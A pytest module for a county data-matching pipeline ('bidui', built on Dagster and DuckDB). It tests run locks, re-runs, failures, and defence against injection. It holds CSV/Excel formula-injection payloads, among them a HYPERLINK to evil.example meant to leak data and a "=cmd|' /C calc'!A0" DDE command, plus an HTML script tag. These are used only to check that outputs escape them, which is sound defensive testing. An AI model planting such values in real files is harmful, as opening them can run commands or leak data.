"""Hostile and careless runs: two runs at once, re-runs, injection payloads in the
register, outputs that cannot be written, dates and instances that make no sense.

Every test drives the real parts: the `bidui` console script or
``pipelines.cli.run_pipeline`` (the real nightly job through Dagster), real DuckDB
files and a real SQLite Dagster instance in tmp_path."""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import pytest

import assets.outputs
from pipelines.cli import main as bidui_main
from pipelines.cli import run_pipeline
from pipelines.jobs import NIGHTLY_JOB_NAME
from tests.conftest import PROJECT_ROOT, copy_inbox
from tests.e2e.conftest import generate_county
from tests.helpers_runs import hold_lock_in_child, run_env

pytestmark = pytest.mark.slow

BIDUI = Path(sys.executable).with_name("bidui")
NIGHT = date(2026, 11, 20)
DAY = NIGHT.isoformat()
# OWASP's list of cell starts a spreadsheet may run as a formula (+ HTML for the report).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak","点我")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def bidui(*args: str, env: dict) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIDUI), *args], capture_output=True, text=True, env=env, timeout=900)


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def assert_day_complete(outbox: Path, wh: Path, day: str = DAY) -> None:
    """The published day holds every output, and problems.csv is the warehouse's."""
    folder = outbox / day
    problems = read_csv(folder / "problems.csv")
    assert problems
    with duckdb.connect(str(wh), read_only=True) as con:
        ids = {r[0] for r in con.execute("SELECT problem_id FROM findings").fetchall()}
        towns = {r[0] for r in con.execute("SELECT DISTINCT township FROM findings").fetchall()}
    assert {p["problem_id"] for p in problems} == ids and len(problems) == len(ids)
    books = {p.parent.name for p in folder.glob("*/问题清单_*.xlsx")}
    assert books == towns
    assert (folder / "rejects.csv").exists()
    assert (folder / "report.html").stat().st_size > 10_000
    assert not list((outbox / ".staging").glob("*")), "no staging folder may be left behind"


@pytest.fixture(scope="module")
def county(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile_county")
    generate_county(out, households=150, seed=5)
    return out


@pytest.fixture
def env(tmp_path) -> dict:
    return run_env(tmp_path)


# --------------------------------------------------------------- one run at a time


def test_two_runs_at_once_one_refused_and_the_day_is_complete(county, tmp_path, env):
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox, wh = tmp_path / "outbox", tmp_path / "w.duckdb"
    # A run killed earlier left its staging folder behind: swept under the lock.
    (outbox / ".staging" / "dead-run" / "某乡").mkdir(parents=True)
    args = ["run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse", str(wh)]
    args += ["--run-date", DAY]
    procs = [
        subprocess.Popen(
            [str(BIDUI), *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env
        )
        for _ in range(2)
    ]
    outs = [(p.wait(timeout=900), *p.communicate()) for p in procs]
    codes = sorted(rc for rc, _, _ in outs)
    assert codes[0] == 0 and codes[1] != 0, outs
    (refused,) = [err for rc, _, err in outs if rc != 0]
    lines = [ln for ln in refused.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1, refused
    assert "another bidui run (pid " in lines[0] and str(wh) in lines[0]
    assert "另一个比对任务" in lines[0]
    assert "Traceback" not in refused
    assert_day_complete(outbox, wh)
    assert not (outbox / ".staging" / "dead-run").exists()


def test_busy_warehouse_refused_at_once_naming_the_holder_then_free_after_kill9(
    county, tmp_path, env
):
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox, wh = tmp_path / "outbox", tmp_path / "w.duckdb"
    child = hold_lock_in_child("warehouse", wh, tmp_path / "ready")
    try:
        sidecar = json.loads(Path(str(wh) + ".run.lock.json").read_text())
        assert sidecar["pid"] == child.pid and sidecar["run_id"] == "holder-run-0001"
        t0 = time.monotonic()
        done = bidui("run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse",
                     str(wh), "--run-date", DAY, env=env)  # fmt: skip
        took = time.monotonic() - t0
    finally:
        child.kill()  # kill -9: the OS drops the flock; the sidecar stays behind
        child.wait()
    assert done.returncode != 0
    (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("error:")]
    assert f"pid {child.pid}" in line and "run holder-run-0001," in line and "started " in line
    assert took < 30, took  # refused at once (the time is the interpreter's start-up)
    assert not (outbox / DAY).exists()

    # The stale sidecar does not block the next run, which publishes the whole day.
    assert Path(str(wh) + ".run.lock.json").exists()
    done = bidui("run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse",
                 str(wh), "--run-date", DAY, env=env)  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    assert_day_complete(outbox, wh)
    assert not Path(str(wh) + ".run.lock.json").exists()


def test_same_outbox_other_warehouse_is_refused(county, tmp_path, env):
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox = tmp_path / "outbox"
    child = hold_lock_in_child("outbox", outbox, tmp_path / "ready")
    try:
        done = bidui("run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse",
                     str(tmp_path / "other.duckdb"), "--run-date", DAY, env=env)  # fmt: skip
    finally:
        child.kill()
        child.wait()
    assert done.returncode != 0
    (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("error:")]
    assert f"pid {child.pid}" in line and f"outbox {outbox}" in line, line


# -------------------------------------------------- re-runs and injection payloads


def hostile_inbox(county: Path, dest: Path) -> Path:
    """The county's inbox with formula/HTML payloads as the names of people who have
    findings, and one money cell that will be rejected with a payload as raw value."""
    inbox = copy_inbox(county, dest)
    with open(county / "truth.csv", encoding="utf-8-sig") as fh:
        flagged = {r["id_number"] for r in csv.DictReader(fh) if r["id_number"]}
    path = next((inbox / "register").glob("2025*.xlsx"))
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    header = [c.value for c in ws[3]]
    id_col, name_col = header.index("证件号码"), header.index("姓名")
    income_col = header.index("家庭年纯收入")

    def text(cell, value: str) -> None:
        cell.value = value
        cell.data_type = "s"  # typed text, not a formula (openpyxl's guess for "=…")

    n = 0
    for row in ws.iter_rows(min_row=4):
        if row[id_col].value in flagged:
            text(row[name_col], PAYLOADS[n % len(PAYLOADS)])
            n += 1
    text(ws.cell(4, income_col + 1), "=cmd|' /C calc'!A0")  # a load warning
    wb.save(path)
    # A rejected row whose raw value is a payload (hukou: a bad ID rejects the row).
    hukou = next((inbox / "hukou").glob("*.csv"))
    lines = hukou.read_text(encoding="gb18030").splitlines(keepends=True)
    lines[2] = "=cmd|' /C calc'!A0" + lines[2][lines[2].index(",") :]
    hukou.write_text("".join(lines), encoding="gb18030")
    assert n >= len(PAYLOADS)
    return inbox


@pytest.fixture(scope="module")
def hostile_night(county, tmp_path_factory):
    """The hostile inbox run twice as the same first night, through the real job."""
    tmp = tmp_path_factory.mktemp("hostile_night")
    home = tmp / "dagster_home"
    home.mkdir()
    shutil.copyfile(PROJECT_ROOT / "dagster.yaml", home / "dagster.yaml")
    old = os.environ.get("DAGSTER_HOME")
    os.environ["DAGSTER_HOME"] = str(home)
    try:
        inbox = hostile_inbox(county, tmp / "inbox")
        outbox, wh = tmp / "outbox", tmp / "w.duckdb"
        ok, info = run_pipeline(inbox, outbox, wh, NIGHT)
        assert ok, info
        first = (outbox / DAY / "problems.csv").read_bytes()
        ok, info = run_pipeline(inbox, outbox, wh, NIGHT)
        assert ok, info
        second = (outbox / DAY / "problems.csv").read_bytes()
    finally:
        if old is None:
            os.environ.pop("DAGSTER_HOME", None)
        else:
            os.environ["DAGSTER_HOME"] = old
    return {"outbox": outbox, "wh": wh, "first": first, "second": second}


def test_first_night_rerun_is_idempotent(hostile_night):
    first, second = hostile_night["first"], hostile_night["second"]
    rows = read_csv(hostile_night["outbox"] / DAY / "problems.csv")
    assert rows and {r["status"] for r in rows} == {"new"}
    assert second == first


def test_payloads_are_inert_in_problems_and_rejects_csv(hostile_night):
    day = hostile_night["outbox"] / DAY
    problems = read_csv(day / "problems.csv")
    rejects = read_csv(day / "rejects.csv")
    cells = [v for r in problems + rejects for v in r.values() if v]
    assert not [v for v in cells if v.startswith(DANGEROUS)], "live formula in a CSV"
    names = {r["name"] for r in problems}
    for payload in PAYLOADS[:4]:
        assert "'" + payload in names, payload
    assert "'=cmd|' /C calc'!A0" in {r["raw_value"] for r in rejects}
    # Negative amounts stay numbers; only text is escaped.
    assert all(not r["year"].startswith("'") for r in problems)


def test_report_escapes_payloads(hostile_night):
    html = (hostile_night["outbox"] / DAY / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html
    assert "evil.example" not in html or "HYPERLINK(&quot;" in html


# ----------------------------------------------------------- errors name the cause


def test_unwritable_outbox_fails_fast_with_the_cause(county, tmp_path, env, capsys, monkeypatch):
    monkeypatch.setenv("DAGSTER_HOME", env["DAGSTER_HOME"])
    inbox = copy_inbox(county, tmp_path / "inbox")
    a_file = tmp_path / "outbox-is-a-file"
    a_file.write_text("x")
    for outbox, cause in ((a_file, "not a folder"), (Path("/proc/bidui-outbox"), "")):
        t0 = time.monotonic()
        rc = bidui_main(["run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse",
                         str(tmp_path / "w.duckdb"), "--run-date", DAY])  # fmt: skip
        took = time.monotonic() - t0
        err = capsys.readouterr().err
        assert rc != 0 and took < 1, (rc, took)
        (line,) = [ln for ln in err.splitlines() if ln.startswith("error:")]
        assert f"outbox {outbox} is not writable" in line and "输出目录不可写" in line, line
        assert cause in line
    assert not (tmp_path / "w.duckdb").exists()


def test_failure_inside_a_step_names_the_cause_and_leaves_no_staging(
    county, tmp_path, env, monkeypatch
):
    monkeypatch.setenv("DAGSTER_HOME", env["DAGSTER_HOME"])
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox, wh = tmp_path / "outbox", tmp_path / "w.duckdb"

    def disk_full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", "report.html")

    # Patched where the report step looks it up (assets.outputs imports it by name).
    monkeypatch.setattr(assets.outputs, "render_report", disk_full)
    ok, info = run_pipeline(inbox, outbox, wh, NIGHT)
    assert not ok
    assert "report" in info and "No space left on device" in info, info
    assert "\n" not in info
    assert not list((outbox / ".staging").glob("*")), "the failed run's staging folder stays"
    assert not (outbox / DAY).exists()

    # The same failure in a run Dagster launches (no CLI around it): teardown cleans up.
    import dagster as dg

    from pipelines.definitions import defs  # lazy: builds every asset and check

    config = {"inbox": str(inbox), "outbox": str(outbox), "warehouse": str(wh), "run_date": DAY}
    with dg.DagsterInstance.get() as instance:
        result = defs.resolve_job_def(NIGHTLY_JOB_NAME).execute_in_process(
            run_config={"resources": {"bidui": {"config": config}}},
            instance=instance,
            raise_on_error=False,
        )
    assert not result.success
    assert [e.step_key for e in result.all_events if e.event_type_value == "STEP_FAILURE"] == [
        "report"
    ]
    assert not list((outbox / ".staging").glob("*")), "the failed run's staging folder stays"
    assert not Path(str(wh) + ".run.lock.json").exists()


def test_staging_on_another_filesystem_is_refused(county, tmp_path, env):
    shm = Path("/dev/shm")
    if not shm.is_dir() or shm.stat().st_dev == tmp_path.stat().st_dev:
        pytest.skip("needs /dev/shm on another filesystem")
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox = tmp_path / "outbox"
    outbox.mkdir()
    elsewhere = shm / f"bidui-staging-{os.getpid()}"
    elsewhere.mkdir()
    try:
        (outbox / ".staging").symlink_to(elsewhere)
        done = bidui("run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse",
                     str(tmp_path / "w.duckdb"), "--run-date", DAY, env=env)  # fmt: skip
    finally:
        shutil.rmtree(elsewhere, ignore_errors=True)
    assert done.returncode != 0
    (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("error:")]
    assert "filesystem" in line and ".staging" in line, line


def test_sigterm_mid_run_leaves_no_staging_and_frees_the_lock(county, tmp_path, env):
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox, wh = tmp_path / "outbox", tmp_path / "w.duckdb"
    args = ["run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse", str(wh)]
    proc = subprocess.Popen(
        [str(BIDUI), *args, "--run-date", DAY],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    deadline = time.monotonic() + 300
    # Mid-run: the first output written into staging. (Waiting for one particular
    # output was flaky: Dagster may order it last, just before the publish step.)
    while not list((outbox / ".staging").glob("*/*")):
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    rc = proc.wait(timeout=120)
    _, err = proc.communicate()
    assert rc != 0
    assert not list((outbox / ".staging").glob("*")), err[-2000:]
    assert not (outbox / DAY).exists()
    assert "Traceback" not in err, err[-3000:]
    # The lock is free: the next run goes through.
    done = bidui(*args, "--run-date", DAY, env=env)
    assert done.returncode == 0, done.stderr[-3000:]
    assert_day_complete(outbox, wh)


def test_two_runs_at_once_with_a_wait_both_publish_in_turn(county, tmp_path, env):
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox, wh = tmp_path / "outbox", tmp_path / "w.duckdb"
    args = ["run", "--inbox", str(inbox), "--outbox", str(outbox), "--warehouse", str(wh)]
    wait_env = env | {"BIDUI_RUN_LOCK_WAIT": "600"}
    procs = [
        subprocess.Popen(
            [str(BIDUI), *args, "--run-date", DAY],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=wait_env,
        )
        for _ in range(2)
    ]
    outs = [(p.wait(timeout=900), *p.communicate()) for p in procs]
    assert [rc for rc, _, _ in outs] == [0, 0], outs
    assert_day_complete(outbox, wh)
    rows = read_csv(outbox / DAY / "problems.csv")
    assert {r["status"] for r in rows} == {"new"}  # the second was a re-run of night 1

    # An earlier night after a later one: refused, the cause in one line.
    done = bidui(*args, "--run-date", "2026-11-19", env=env)
    assert done.returncode == 1
    (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("error:")]
    assert "findings: ValueError: run_date 2026-11-19 is earlier than the last run" in line
    assert "Error occurred while executing" not in line
    assert not (outbox / "2026-11-19").exists() and not list((outbox / ".staging").glob("*"))


def test_a_run_dagster_launches_takes_the_lock_itself(county, tmp_path, env, monkeypatch):
    """The schedule, the sensor and the UI launch runs without the CLI: the resource
    takes the lock in setup_for_execution and the run fails naming the holder."""
    import dagster as dg

    from pipelines.definitions import defs  # lazy: builds every asset and check

    monkeypatch.setenv("DAGSTER_HOME", env["DAGSTER_HOME"])
    monkeypatch.setenv("BIDUI_RUN_LOCK_WAIT", "1")
    inbox = copy_inbox(county, tmp_path / "inbox")
    outbox, wh = tmp_path / "outbox", tmp_path / "w.duckdb"
    (outbox / ".staging" / "dead-run").mkdir(parents=True)
    config = {"inbox": str(inbox), "outbox": str(outbox), "warehouse": str(wh), "run_date": DAY}
    child = hold_lock_in_child("warehouse", wh, tmp_path / "ready")
    try:
        with dg.DagsterInstance.get() as instance:
            t0 = time.monotonic()
            result = defs.resolve_job_def(NIGHTLY_JOB_NAME).execute_in_process(
                run_config={"resources": {"bidui": {"config": config}}},
                instance=instance,
                raise_on_error=False,
            )
            took = time.monotonic() - t0
    finally:
        child.kill()
        child.wait()
    assert not result.success and took < 30
    errors = [
        str(e.event_specific_data.error.to_string())
        for e in result.all_events
        if getattr(e.event_specific_data, "error", None) is not None
    ]
    assert any(f"another bidui run (pid {child.pid}" in e and "waited 1 s" in e for e in errors)
    assert not (outbox / DAY).exists()
    assert (outbox / ".staging" / "dead-run").exists()  # not swept without the lock
    assert not wh.exists()


def test_the_same_warehouse_through_a_symlink_is_the_same_lock(county, tmp_path, env):
    inbox = copy_inbox(county, tmp_path / "inbox")
    wh = tmp_path / "real" / "w.duckdb"
    wh.parent.mkdir()
    duckdb.connect(str(wh)).close()
    (tmp_path / "alias.duckdb").symlink_to(wh)  # another name for the same file
    child = hold_lock_in_child("warehouse", wh, tmp_path / "ready")
    try:
        done = bidui("run", "--inbox", str(inbox), "--outbox", str(tmp_path / "outbox"),
                     "--warehouse", str(tmp_path / "alias.duckdb"), "--run-date", DAY,
                     env=env)  # fmt: skip
    finally:
        child.kill()
        child.wait()
    assert done.returncode != 0
    (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("error:")]
    assert f"another bidui run (pid {child.pid}" in line, line
